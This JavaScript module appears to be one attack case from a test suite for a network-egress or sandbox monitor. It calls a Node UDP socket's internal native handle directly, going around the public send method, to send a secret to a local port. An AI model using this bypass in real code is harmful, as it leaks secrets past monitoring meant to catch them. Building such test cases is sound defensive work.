// A dgram socket's native UDP handle sits under a symbol property: its send() takes a plain object
// as request when the datagram goes out at once, below dgram.Socket.prototype.send.
import dgram from 'node:dgram';
export const meta = { kind: 'network', evidence: 'udp' };
export default function attack(ctx) {
  const socket = dgram.createSocket('udp4');
  const state = Object.getOwnPropertySymbols(socket).find((symbol) => String(symbol).includes('state'));
  const handle = socket[state].handle;
  const sent = handle.send({}, [Buffer.from(ctx.secret)], 1, ctx.udpPort, '127.0.0.1', false);
  socket.close();
  return `sent ${sent}`;
}
